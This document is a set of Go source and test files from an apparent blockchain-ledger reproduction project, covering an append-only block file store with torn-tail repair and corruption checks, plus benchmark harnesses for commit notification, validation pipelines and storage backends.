		return fmt.Errorf("%w: %w: append block %d at height %d", storage.ErrCorrupt, ErrCorrupt, b.Header.Number, s.height)
	}
	raw, err := json.Marshal(b)
	if err != nil {
		return fmt.Errorf("blockfile: marshal block %d: %w", b.Header.Number, err)
	}
	buf := make([]byte, 4+len(raw))
	binary.BigEndian.PutUint32(buf[:4], uint32(len(raw)))
	copy(buf[4:], raw)
	if _, err := s.f.Write(buf); err != nil {
		s.fail(fmt.Errorf("%w: blockfile: write block %d: %v", storage.ErrIO, b.Header.Number, err))
		return s.writeErr
	}
	if err := s.f.Sync(); err != nil {
		s.fail(fmt.Errorf("%w: blockfile: sync block %d: %v", storage.ErrIO, b.Header.Number, err))
		return s.writeErr
	}
	s.size += int64(len(buf))
	s.height++
	return nil
}

// fail rolls the file back to the last intact record and records the
// sticky error. Caller holds s.mu.
func (s *Store) fail(err error) {
	// Best effort: if the truncate itself fails, reopen-time torn-tail
	// repair covers the partial record.
	_ = s.f.Truncate(s.size)
	_, _ = s.f.Seek(s.size, io.SeekStart)
	s.writeErr = err
}

// FailWrites injects a sticky write failure: every subsequent Append
// fails with err without touching the file. Crash-recovery tests use it
// to model a peer dying at the block-durability point.
func (s *Store) FailWrites(err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.writeErr = err
}

// ReadAll returns every stored block in order, validating framing and
// hash linkage.
func (s *Store) ReadAll() ([]*ledger.Block, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return nil, storage.ErrClosed
	}
	blocks, _, err := s.scan(false)
	if seekErr := s.reposition(); err == nil {
		err = seekErr
	}
	return blocks, err
}

func (s *Store) reposition() error {
	if _, err := s.f.Seek(s.size, io.SeekStart); err != nil {
		return fmt.Errorf("%w: blockfile: seek: %v", storage.ErrIO, err)
	}
	return nil
}

// scan reads the file from the start. With repair set (Open), a short
// record at the end of the file is treated as a torn tail and truncated;
// without it (ReadAll on a live store) any framing failure is an error.
func (s *Store) scan(repair bool) ([]*ledger.Block, int64, error) {
	if _, err := s.f.Seek(0, io.SeekStart); err != nil {
		return nil, 0, fmt.Errorf("%w: blockfile: seek: %v", storage.ErrIO, err)
	}
	var blocks []*ledger.Block
	var prevHash []byte
	var offset int64
	for {
		var lenBuf [4]byte
		_, err := io.ReadFull(s.f, lenBuf[:])
		if err == io.EOF {
			break
		}
		torn := ""
		var raw []byte
		if err != nil {
			torn = "truncated frame"
		} else {
			raw = make([]byte, binary.BigEndian.Uint32(lenBuf[:]))
			if _, err := io.ReadFull(s.f, raw); err != nil {
				torn = "truncated block"
			}
		}
		if torn != "" {
			if !repair {
				return nil, 0, fmt.Errorf("%w: %w: %s at offset %d", storage.ErrCorrupt, ErrCorrupt, torn, offset)
			}
			if err := s.f.Truncate(offset); err != nil {
				return nil, 0, fmt.Errorf("%w: blockfile: truncate torn tail: %v", storage.ErrIO, err)
			}
			break
		}
		var b ledger.Block
		if err := json.Unmarshal(raw, &b); err != nil {
			return nil, 0, fmt.Errorf("%w: %w: unmarshal: %v", storage.ErrCorrupt, ErrCorrupt, err)
		}
		if b.Header.Number != uint64(len(blocks)) {
			return nil, 0, fmt.Errorf("%w: %w: block %d at position %d", storage.ErrCorrupt, ErrCorrupt, b.Header.Number, len(blocks))
		}
		if len(blocks) > 0 && string(b.Header.PrevHash) != string(prevHash) {
			return nil, 0, fmt.Errorf("%w: %w: hash chain broken at block %d", storage.ErrCorrupt, ErrCorrupt, b.Header.Number)
		}
		if !b.VerifyDataHash() {
			return nil, 0, fmt.Errorf("%w: %w: data hash mismatch at block %d", storage.ErrCorrupt, ErrCorrupt, b.Header.Number)
		}
		prevHash = b.Hash()
		blocks = append(blocks, &b)
		offset += 4 + int64(len(raw))
	}
	return blocks, offset, nil
}
