// Package blockfile provides durable, append-only block storage: the
// on-disk ledger of a peer. Fabric persists its blockchain in exactly
// this style (length-prefixed records in append-only files); a peer that
// restarts rebuilds its world state by replaying the file.
//
// Record format: 4-byte big-endian length, then the JSON-serialized
// block. The file is self-describing; Open scans it once to validate
// record framing and hash linkage.
package blockfile

import (
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"repro/internal/ledger"
)

// ErrCorrupt is returned when the block file fails framing or chain
// validation.
var ErrCorrupt = errors.New("blockfile: corrupt block file")

// Store is an append-only block file.
type Store struct {
	path   string
	f      *os.File
	height uint64
}

// Open opens (or creates) the block file under dir and validates its
// contents.
func Open(dir string) (*Store, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("blockfile: mkdir: %w", err)
	}
	path := filepath.Join(dir, "blocks.bin")
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o644)
	if err != nil {
		return nil, fmt.Errorf("blockfile: open: %w", err)
	}
	s := &Store{path: path, f: f}
	blocks, err := s.readAll()
	if err != nil {
		f.Close()
		return nil, err
	}
	s.height = uint64(len(blocks))
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		f.Close()
		return nil, fmt.Errorf("blockfile: seek: %w", err)
	}
	return s, nil
}

// Close releases the underlying file.
func (s *Store) Close() error { return s.f.Close() }

// Height returns the number of stored blocks.
func (s *Store) Height() uint64 { return s.height }

// Append durably appends a block. Blocks must arrive in order.
func (s *Store) Append(b *ledger.Block) error {
	if b.Header.Number != s.height {
		return fmt.Errorf("blockfile: append block %d at height %d", b.Header.Number, s.height)
	}
	raw, err := json.Marshal(b)
	if err != nil {
		return fmt.Errorf("blockfile: marshal block %d: %w", b.Header.Number, err)
	}
	var lenBuf [4]byte
	binary.BigEndian.PutUint32(lenBuf[:], uint32(len(raw)))
	if _, err := s.f.Write(lenBuf[:]); err != nil {
		return fmt.Errorf("blockfile: write frame: %w", err)
	}
	if _, err := s.f.Write(raw); err != nil {
		return fmt.Errorf("blockfile: write block: %w", err)
	}
	if err := s.f.Sync(); err != nil {
		return fmt.Errorf("blockfile: sync: %w", err)
	}
	s.height++
	return nil
}

// ReadAll returns every stored block in order, validating framing and
// hash linkage.
func (s *Store) ReadAll() ([]*ledger.Block, error) {
	if _, err := s.f.Seek(0, io.SeekStart); err != nil {
		return nil, fmt.Errorf("blockfile: seek: %w", err)
	}
	defer s.f.Seek(0, io.SeekEnd) //nolint:errcheck // best-effort reposition
	return s.readAll()
}

func (s *Store) readAll() ([]*ledger.Block, error) {
	if _, err := s.f.Seek(0, io.SeekStart); err != nil {
		return nil, fmt.Errorf("blockfile: seek: %w", err)
	}
	var blocks []*ledger.Block
	var prevHash []byte
	for {
		var lenBuf [4]byte
		_, err := io.ReadFull(s.f, lenBuf[:])
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, fmt.Errorf("%w: truncated frame: %v", ErrCorrupt, err)
		}
		size := binary.BigEndian.Uint32(lenBuf[:])
		raw := make([]byte, size)
		if _, err := io.ReadFull(s.f, raw); err != nil {
			return nil, fmt.Errorf("%w: truncated block: %v", ErrCorrupt, err)
		}
		var b ledger.Block
		if err := json.Unmarshal(raw, &b); err != nil {
			return nil, fmt.Errorf("%w: unmarshal: %v", ErrCorrupt, err)
		}
		if b.Header.Number != uint64(len(blocks)) {
			return nil, fmt.Errorf("%w: block %d at position %d", ErrCorrupt, b.Header.Number, len(blocks))
		}
		if len(blocks) > 0 && string(b.Header.PrevHash) != string(prevHash) {
			return nil, fmt.Errorf("%w: hash chain broken at block %d", ErrCorrupt, b.Header.Number)
		}
		if !b.VerifyDataHash() {
			return nil, fmt.Errorf("%w: data hash mismatch at block %d", ErrCorrupt, b.Header.Number)
		}
		prevHash = b.Hash()
		blocks = append(blocks, &b)
	}
	return blocks, nil
}
