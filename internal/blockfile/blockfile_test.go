package blockfile

import (
	"errors"
	"os"
	"path/filepath"
	"testing"
	"testing/quick"

	"repro/internal/ledger"
)

func testBlocks(n int) []*ledger.Block {
	var out []*ledger.Block
	var prev []byte
	for i := 0; i < n; i++ {
		tx := &ledger.Transaction{
			TxID:            string(rune('a' + i)),
			Proposal:        &ledger.Proposal{TxID: string(rune('a' + i))},
			ResponsePayload: []byte(`{}`),
		}
		b := ledger.NewBlock(uint64(i), prev, []*ledger.Transaction{tx})
		prev = b.Hash()
		out = append(out, b)
	}
	return out
}

func TestAppendAndReadAll(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	blocks := testBlocks(3)
	for _, b := range blocks {
		if err := s.Append(b); err != nil {
			t.Fatal(err)
		}
	}
	if s.Height() != 3 {
		t.Fatalf("height = %d", s.Height())
	}

	got, err := s.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Fatalf("read %d blocks", len(got))
	}
	for i, b := range got {
		if b.Header.Number != uint64(i) || b.Transactions[0].TxID != blocks[i].Transactions[0].TxID {
			t.Fatalf("block %d mismatch", i)
		}
	}

	// Appending can continue after a full read.
	extra := ledger.NewBlock(3, got[2].Hash(), []*ledger.Transaction{{
		TxID: "x", Proposal: &ledger.Proposal{TxID: "x"}, ResponsePayload: []byte(`{}`),
	}})
	if err := s.Append(extra); err != nil {
		t.Fatal(err)
	}
}

func TestReopenPreservesHeight(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	blocks := testBlocks(2)
	for _, b := range blocks {
		if err := s.Append(b); err != nil {
			t.Fatal(err)
		}
	}
	s.Close()

	s2, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if s2.Height() != 2 {
		t.Fatalf("reopened height = %d", s2.Height())
	}
	// New appends continue the chain.
	next := ledger.NewBlock(2, blocks[1].Hash(), []*ledger.Transaction{{
		TxID: "y", Proposal: &ledger.Proposal{TxID: "y"}, ResponsePayload: []byte(`{}`),
	}})
	if err := s2.Append(next); err != nil {
		t.Fatal(err)
	}
}

func TestOutOfOrderAppendRejected(t *testing.T) {
	s, err := Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	blocks := testBlocks(2)
	if err := s.Append(blocks[1]); err == nil {
		t.Fatal("gap append accepted")
	}
}

func TestCorruptionDetected(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range testBlocks(2) {
		if err := s.Append(b); err != nil {
			t.Fatal(err)
		}
	}
	s.Close()

	path := filepath.Join(dir, "blocks.bin")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}

	// Bit-flip in the middle of the file.
	flipped := append([]byte(nil), raw...)
	flipped[len(flipped)/2] ^= 0xff
	if err := os.WriteFile(path, flipped, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(dir); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("bit flip: err = %v", err)
	}

	// Truncation mid-record is a torn tail: Open repairs it by dropping
	// the partial record and keeping the intact prefix.
	if err := os.WriteFile(path, raw[:len(raw)-5], 0o644); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(dir)
	if err != nil {
		t.Fatalf("truncation should be repaired, got err = %v", err)
	}
	defer s2.Close()
	if s2.Height() != 1 {
		t.Fatalf("height after torn-tail repair = %d, want 1", s2.Height())
	}
}

// TestPersistReloadQuick: random-length chains survive a close/reopen
// round trip bit-for-bit.
func TestPersistReloadQuick(t *testing.T) {
	f := func(nBlocks uint8) bool {
		n := int(nBlocks%12) + 1
		dir := t.TempDir()
		s, err := Open(dir)
		if err != nil {
			return false
		}
		blocks := testBlocks(n)
		for _, b := range blocks {
			if err := s.Append(b); err != nil {
				return false
			}
		}
		s.Close()
		s2, err := Open(dir)
		if err != nil {
			return false
		}
		defer s2.Close()
		got, err := s2.ReadAll()
		if err != nil || len(got) != n {
			return false
		}
		for i := range got {
			if string(got[i].Hash()) != string(blocks[i].Hash()) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 20}); err != nil {
		t.Error(err)
	}
}
