package blockfile

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"repro/internal/ledger"
	"repro/internal/storage"
)

func chain(n int) []*ledger.Block {
	var blocks []*ledger.Block
	var prev []byte
	for i := 0; i < n; i++ {
		b := ledger.NewBlock(uint64(i), prev, nil)
		prev = b.Hash()
		blocks = append(blocks, b)
	}
	return blocks
}

func TestOpenTruncatesTornTail(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	blocks := chain(3)
	for _, b := range blocks {
		if err := s.Append(b); err != nil {
			t.Fatal(err)
		}
	}
	s.Close()

	// A crash mid-append leaves a length prefix with a partial body.
	path := filepath.Join(dir, "blocks.bin")
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.Write([]byte{0x00, 0x00, 0x40, 0x00, '{', '"'}); err != nil {
		t.Fatal(err)
	}
	f.Close()

	s2, err := Open(dir)
	if err != nil {
		t.Fatalf("open with torn tail: %v", err)
	}
	defer s2.Close()
	if h := s2.Height(); h != 3 {
		t.Fatalf("height = %d, want 3 (torn record dropped)", h)
	}
	// Appendable again right where the intact prefix ends.
	b3 := ledger.NewBlock(3, blocks[2].Hash(), nil)
	if err := s2.Append(b3); err != nil {
		t.Fatalf("append after repair: %v", err)
	}
	got, err := s2.ReadAll()
	if err != nil || len(got) != 4 {
		t.Fatalf("ReadAll = %d blocks, err %v", len(got), err)
	}
}

func TestOpenRejectsMidFileCorruption(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range chain(3) {
		if err := s.Append(b); err != nil {
			t.Fatal(err)
		}
	}
	s.Close()

	path := filepath.Join(dir, "blocks.bin")
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	raw[len(raw)/3] ^= 0xff // inside an early record, not the tail
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(dir); !errors.Is(err, ErrCorrupt) || !errors.Is(err, storage.ErrCorrupt) {
		t.Fatalf("open with mid-file corruption: got %v, want ErrCorrupt (both sentinels)", err)
	}
}

func TestAppendFailureIsStickyAndTyped(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	blocks := chain(2)
	if err := s.Append(blocks[0]); err != nil {
		t.Fatal(err)
	}
	boom := errors.New("disk gone")
	s.FailWrites(boom)
	if err := s.Append(blocks[1]); !errors.Is(err, boom) {
		t.Fatalf("append after FailWrites: got %v", err)
	}
	if err := s.Append(blocks[1]); !errors.Is(err, boom) {
		t.Fatalf("error not sticky: %v", err)
	}
	if h := s.Height(); h != 1 {
		t.Fatalf("height advanced past failed append: %d", h)
	}
}

func TestAppendOutOfOrderTyped(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	b5 := ledger.NewBlock(5, nil, nil)
	if err := s.Append(b5); !errors.Is(err, storage.ErrCorrupt) {
		t.Fatalf("out-of-order append: got %v, want storage.ErrCorrupt", err)
	}
}
