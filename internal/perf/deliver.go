package perf

import (
	"context"
	"fmt"
	"strconv"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/gateway"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/service"
)

// DeliverResult reports the commit-notification scenario: concurrent
// Gateway clients submit transactions and block until the final commit
// status arrives over the deliver stream, measuring submit→commit-notified
// latency per transaction.
type DeliverResult struct {
	Framework string
	// Clients is the number of concurrent Gateway submitters.
	Clients int
	// Transactions completed (commit-notified, whatever the code).
	Transactions int
	// Invalid counts transactions notified with a non-VALID code.
	Invalid int
	// Elapsed wall clock.
	Elapsed time.Duration
	// TPS is Transactions / Elapsed.
	TPS float64
	// CommitWait is the submit→commit-notified latency distribution
	// (the deliver_commit_wait histogram across all clients).
	CommitWait metrics.HistogramSnapshot
}

// MeasureDeliver drives `total` public transactions through `clients`
// concurrent Gateway connections. Each client endorses, orders and then
// waits for its transaction's commit-status event from its commit peer's
// delivery service — the full push-notified flow, with no ledger polling.
func MeasureDeliver(sec core.SecurityConfig, framework string, clients, total int) (DeliverResult, error) {
	if clients < 1 {
		clients = 1
	}
	h, err := newHarness(sec)
	if err != nil {
		return DeliverResult{}, err
	}
	perClient := total / clients
	if perClient == 0 {
		perClient = 1
	}

	var timings metrics.Timings
	gws := make([]*gateway.Gateway, clients)
	for c := 0; c < clients; c++ {
		id, err := h.net.CA("org1").Issue("bench-deliver-"+strconv.Itoa(c)+".org1", identity.RoleClient)
		if err != nil {
			return DeliverResult{}, fmt.Errorf("perf: deliver client %d: %w", c, err)
		}
		gws[c] = gateway.Connect(id, gateway.Options{
			Verifier: h.net.Channel.Verifier(),
			Orderer:  h.net.Orderer,
			Security: sec,
			Timings:  &timings,
		}, service.AsPeers(h.net.Peers())...)
	}

	var wg sync.WaitGroup
	var mu sync.Mutex
	invalid := 0
	errCh := make(chan error, clients)
	start := time.Now()
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			contract := gws[c].Network(h.net.Channel.Name).Contract("asset")
			for i := 0; i < perClient; i++ {
				key := "d" + strconv.Itoa(c) + "-" + strconv.Itoa(i)
				res, err := contract.Submit(context.Background(), "set",
					gateway.WithArguments(key, "v"))
				if err != nil {
					errCh <- fmt.Errorf("perf: deliver client %d: %w", c, err)
					return
				}
				if res.Code != ledger.Valid {
					mu.Lock()
					invalid++
					mu.Unlock()
				}
			}
		}(c)
	}
	wg.Wait()
	elapsed := time.Since(start)
	close(errCh)
	for err := range errCh {
		return DeliverResult{}, err
	}

	done := clients * perClient
	return DeliverResult{
		Framework:    framework,
		Clients:      clients,
		Transactions: done,
		Invalid:      invalid,
		Elapsed:      elapsed,
		TPS:          float64(done) / elapsed.Seconds(),
		CommitWait:   timings.Snapshot()[metrics.DeliverCommitWait],
	}, nil
}

// RenderDeliver prints the commit-notification comparison with the
// submit→commit-notified latency distribution per framework.
func RenderDeliver(results []DeliverResult) string {
	out := "Commit notification via deliver stream (endorse + order + commit-status event)\n"
	out += fmt.Sprintf("%-12s%-10s%-8s%-10s%-12s%-10s%-12s%-12s%-12s%-12s\n",
		"framework", "clients", "txs", "invalid", "elapsed", "tx/s",
		"wait-mean", "wait-p50", "wait-p95", "wait-max")
	for _, r := range results {
		w := r.CommitWait
		out += fmt.Sprintf("%-12s%-10d%-8d%-10d%-12s%-10.0f%-12s%-12s%-12s%-12s\n",
			r.Framework, r.Clients, r.Transactions, r.Invalid,
			r.Elapsed.Round(time.Millisecond), r.TPS,
			w.Mean().Round(time.Microsecond), w.Quantile(0.5),
			w.Quantile(0.95), w.Max.Round(time.Microsecond))
	}
	return out
}
