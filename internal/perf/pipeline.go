package perf

import (
	"fmt"
	"strings"
	"time"

	"repro/internal/core"
	"repro/internal/ledger"
	"repro/internal/metrics"
)

// pipelineTarget is the peer whose validation pipeline the block
// benchmarks drive. org3 never endorses in this harness, so its world
// state advances only through the measured commits.
const pipelineTarget = "org3"

// EndorseTxs endorses n public write-only transactions against the
// member peers (keys unique per (run, i) so blocks never conflict) and
// returns them ready for block assembly.
func (h *Harness) EndorseTxs(run, n int) ([]*ledger.Transaction, error) {
	txs := make([]*ledger.Transaction, 0, n)
	for i := 0; i < n; i++ {
		key := fmt.Sprintf("blk%d-%d", run, i)
		tx, err := h.h.endorse("set", []string{key, "v"})
		if err != nil {
			return nil, fmt.Errorf("perf: endorse block tx %s: %w", key, err)
		}
		txs = append(txs, tx)
	}
	return txs, nil
}

// EndorseReadWriteTxs endorses n public read-write transactions (the
// asset contract's "add" function: GetState + PutState on the same key),
// so each transaction carries a non-empty public read set and the
// validator's MVCC version check does real work. Keys are unique per
// (run, i) so blocks never conflict.
func (h *Harness) EndorseReadWriteTxs(run, n int) ([]*ledger.Transaction, error) {
	txs := make([]*ledger.Transaction, 0, n)
	for i := 0; i < n; i++ {
		key := fmt.Sprintf("rw%d-%d", run, i)
		tx, err := h.h.endorse("add", []string{key, "1"})
		if err != nil {
			return nil, fmt.Errorf("perf: endorse read-write tx %s: %w", key, err)
		}
		txs = append(txs, tx)
	}
	return txs, nil
}

// BuildBlock assembles the transactions into the next block of the
// pipeline target peer's chain.
func (h *Harness) BuildBlock(txs []*ledger.Transaction) *ledger.Block {
	chain := h.h.net.Peer(pipelineTarget).Ledger()
	return ledger.NewBlock(chain.Height(), chain.LastHash(), txs)
}

// CommitBlock runs the validation pipeline (validate + commit + append)
// on the pipeline target peer.
func (h *Harness) CommitBlock(block *ledger.Block) error {
	return h.h.net.Peer(pipelineTarget).CommitBlock(block)
}

// SetValidationWorkers reconfigures the pipeline target peer's worker
// pool without rebuilding the network.
func (h *Harness) SetValidationWorkers(workers int) {
	sec := h.h.net.Security()
	sec.ValidationWorkers = workers
	h.h.net.Peer(pipelineTarget).SetSecurity(sec)
}

// FlushVerifyCache drops the pipeline target peer's memoized endorsement
// verifications, so a measurement starts from the uncached path.
func (h *Harness) FlushVerifyCache() {
	h.h.net.Peer(pipelineTarget).Validator().FlushVerifyCache()
}

// TargetTimings returns the pipeline target peer's per-phase validation
// latency histograms.
func (h *Harness) TargetTimings() map[string]metrics.HistogramSnapshot {
	return h.h.net.Peer(pipelineTarget).Timings()
}

// TargetMetrics returns the pipeline target peer's counters (including
// the verify-cache hit/miss counts).
func (h *Harness) TargetMetrics() map[string]uint64 {
	return h.h.net.Peer(pipelineTarget).Metrics()
}

// BlockValidationResult is one pipeline measurement: committing `Blocks`
// blocks of `TxsPerBlock` endorsed transactions with a given worker
// count.
type BlockValidationResult struct {
	Workers     int
	Blocks      int
	TxsPerBlock int
	Elapsed     time.Duration
	// TPS is committed transactions per second of validation-phase wall
	// time (endorsement and block assembly excluded).
	TPS float64
}

// MeasureBlockValidation measures commit throughput of the block
// validation pipeline for each worker count, on one shared network (same
// identities, same chaincode, fresh keys per block). The verify cache is
// flushed before each worker setting so every run pays the same
// first-touch verification costs.
func MeasureBlockValidation(sec core.SecurityConfig, workerCounts []int, blocks, txsPerBlock int) ([]BlockValidationResult, error) {
	h, err := NewHarness(sec, 0)
	if err != nil {
		return nil, err
	}
	run := 0
	out := make([]BlockValidationResult, 0, len(workerCounts))
	for _, workers := range workerCounts {
		h.SetValidationWorkers(workers)
		h.FlushVerifyCache()
		var elapsed time.Duration
		for b := 0; b < blocks; b++ {
			txs, err := h.EndorseTxs(run, txsPerBlock)
			run++
			if err != nil {
				return nil, err
			}
			block := h.BuildBlock(txs)
			start := time.Now()
			if err := h.CommitBlock(block); err != nil {
				return nil, fmt.Errorf("perf: commit with %d workers: %w", workers, err)
			}
			elapsed += time.Since(start)
		}
		total := blocks * txsPerBlock
		res := BlockValidationResult{
			Workers:     workers,
			Blocks:      blocks,
			TxsPerBlock: txsPerBlock,
			Elapsed:     elapsed,
		}
		if elapsed > 0 {
			res.TPS = float64(total) / elapsed.Seconds()
		}
		out = append(out, res)
	}
	return out, nil
}

// RenderBlockValidation prints the pipeline comparison with each row's
// speedup relative to the first (normally workers=1).
func RenderBlockValidation(results []BlockValidationResult) string {
	var b strings.Builder
	b.WriteString("Block validation pipeline throughput\n")
	fmt.Fprintf(&b, "%-10s%-10s%-14s%-12s%-10s\n", "workers", "txs", "elapsed", "tx/s", "speedup")
	var base float64
	for i, r := range results {
		if i == 0 {
			base = r.TPS
		}
		speedup := "n/a"
		if base > 0 {
			speedup = fmt.Sprintf("%.2fx", r.TPS/base)
		}
		fmt.Fprintf(&b, "%-10d%-10d%-14s%-12.0f%-10s\n",
			r.Workers, r.Blocks*r.TxsPerBlock, r.Elapsed.Round(time.Microsecond), r.TPS, speedup)
	}
	return b.String()
}

// RenderTimings prints the per-phase validation latency histograms in a
// stable order.
func RenderTimings(snap map[string]metrics.HistogramSnapshot) string {
	var b strings.Builder
	b.WriteString("Per-phase validation latency (per transaction)\n")
	fmt.Fprintf(&b, "%-10s%-10s%-14s%-14s%-14s\n", "phase", "count", "mean", "p95", "max")
	for _, name := range []string{
		metrics.ValidateVerify, metrics.ValidatePolicy,
		metrics.ValidateMVCC, metrics.ValidateCommit,
	} {
		s, ok := snap[name]
		if !ok {
			continue
		}
		label := strings.TrimPrefix(name, "validate_")
		fmt.Fprintf(&b, "%-10s%-10d%-14s%-14s%-14s\n",
			label, s.Count, s.Mean().Round(time.Nanosecond),
			s.Quantile(0.95), s.Max)
	}
	return b.String()
}
