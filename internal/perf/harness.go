package perf

import (
	"fmt"
	"strconv"

	"repro/internal/core"
	"repro/internal/ledger"
)

// Harness exposes the measurement network for use by testing.B
// benchmarks, which need per-iteration control instead of the batch
// Measure* API.
type Harness struct {
	h *harness
}

// NewHarness builds a measurement network under the given security
// configuration and pre-writes `seeded` private keys k0..k(n-1) = 12.
func NewHarness(sec core.SecurityConfig, seeded int) (*Harness, error) {
	h, err := newHarness(sec)
	if err != nil {
		return nil, err
	}
	for i := 0; i < seeded; i++ {
		key := "k" + strconv.Itoa(i)
		if _, err := h.submit(h.members, "setPrivate", []string{key, "12"}); err != nil {
			return nil, fmt.Errorf("perf: seed %s: %w", key, err)
		}
	}
	return &Harness{h: h}, nil
}

// ExecuteOnce runs the execution phase of one transaction of the given
// kind against a member endorser; run selects the target key.
func (h *Harness) ExecuteOnce(kind TxKind, run int) error {
	fn, args, err := h.h.proposalFor(kind, run)
	if err != nil {
		return err
	}
	prop, err := h.h.net.Gateway("org1").NewProposal("asset", fn, args, nil)
	if err != nil {
		return err
	}
	_, err = h.h.net.Peer("org1").ProcessProposal(prop)
	return err
}

// EndorseTx collects the member endorsements of one transaction of the
// given kind without ordering it.
func (h *Harness) EndorseTx(kind TxKind, run int) (*ledger.Transaction, error) {
	fn, args, err := h.h.proposalFor(kind, run)
	if err != nil {
		return nil, err
	}
	return h.h.endorse(fn, args)
}

// ValidateOnce runs the validation phase of a pre-endorsed transaction
// on a member peer (no commit).
func (h *Harness) ValidateOnce(tx *ledger.Transaction) error {
	if code := h.h.net.Peer("org2").Validator().ValidateTx(tx); code != ledger.Valid {
		return fmt.Errorf("perf: validation returned %v", code)
	}
	return nil
}

// SubmitPublicOnce drives a full public transaction through the network
// (endorse, order, validate, commit), for end-to-end throughput benches.
func (h *Harness) SubmitPublicOnce(run int) error {
	key := "pub" + strconv.Itoa(run)
	_, err := h.h.submit(nil, "set", []string{key, "v"})
	return err
}
