package perf

import (
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"repro/internal/core"
	"repro/internal/storage"
	_ "repro/internal/storage/durable" // register the durable backend
)

// StorageBackendResult reports one backend's scenario outcome: raw
// state-log append cost, compaction cost, recovery (reopen + replay)
// cost and the end-to-end transaction throughput of a network whose
// peers all run on the backend.
type StorageBackendResult struct {
	// Backend is the registered backend name plus option suffix, e.g.
	// "durable (no fsync)".
	Backend string `json:"backend"`
	// Fsync reports whether appends waited for fsync.
	Fsync bool `json:"fsync"`

	// ApplyNsPerBatch is the mean wall time of one StateStore.Apply.
	ApplyNsPerBatch float64 `json:"apply_ns_per_batch"`
	// ApplyNsPerRecord is ApplyNsPerBatch / records per batch.
	ApplyNsPerRecord float64 `json:"apply_ns_per_record"`
	// CompactNs is one full Compact pass over the written log.
	CompactNs int64 `json:"compact_ns"`
	// RecoverNs is close + reopen + full state replay (Load). For the
	// memory backend — which loses everything on close — it is the
	// replay of the live store only.
	RecoverNs int64 `json:"recover_ns"`
	// RecoveredRecords is how many records the recovery replay yielded.
	RecoveredRecords int `json:"recovered_records"`

	// TPS is end-to-end transactions per second of a three-org network
	// whose peers persist through this backend (0 when the throughput
	// stage is skipped).
	TPS float64 `json:"tps"`
	// Transactions is the TPS sample size.
	Transactions int `json:"transactions"`
}

// StorageResult is the full storage scenario: the same workload run
// against every backend variant.
type StorageResult struct {
	// Batches and RecordsPerBatch shape the raw-append workload; keys
	// cycle over a quarter of the total so later batches overwrite
	// earlier ones and compaction has garbage to reclaim.
	Batches         int `json:"batches"`
	RecordsPerBatch int `json:"records_per_batch"`
	// ValueBytes is the payload size per record.
	ValueBytes int `json:"value_bytes"`
	// Clients and Txs shape the end-to-end throughput stage.
	Clients int `json:"clients"`
	Txs     int `json:"txs"`

	Backends []StorageBackendResult `json:"backends"`
}

// storageVariant is one backend configuration under test.
type storageVariant struct {
	label   string
	backend string
	noFsync bool
}

// MeasureStorage runs the storage scenario (docs/STORAGE.md): raw
// Apply/Compact/recover timings on each backend, then — unless txs is 0
// — an end-to-end throughput run with every peer on that backend.
func MeasureStorage(batches, recordsPerBatch, clients, txs int) (StorageResult, error) {
	res := StorageResult{
		Batches:         batches,
		RecordsPerBatch: recordsPerBatch,
		ValueBytes:      64,
		Clients:         clients,
		Txs:             txs,
	}
	variants := []storageVariant{
		{label: "memory", backend: "memory"},
		{label: "durable", backend: "durable"},
		{label: "durable (no fsync)", backend: "durable", noFsync: true},
	}
	for _, v := range variants {
		r, err := measureStorageVariant(v, res)
		if err != nil {
			return StorageResult{}, fmt.Errorf("perf: storage %s: %w", v.label, err)
		}
		res.Backends = append(res.Backends, r)
	}
	return res, nil
}

func measureStorageVariant(v storageVariant, cfg StorageResult) (StorageBackendResult, error) {
	out := StorageBackendResult{Backend: v.label, Fsync: v.backend == "durable" && !v.noFsync}

	var dir string
	if v.backend == "durable" {
		d, err := os.MkdirTemp("", "pdc-perf-storage-")
		if err != nil {
			return out, err
		}
		dir = d
		defer os.RemoveAll(dir)
	}
	// Small segments so the workload seals several of them and the
	// compaction pass has a real prefix to merge.
	opts := storage.Options{
		Dir:                    dir,
		SegmentBytes:           256 << 10,
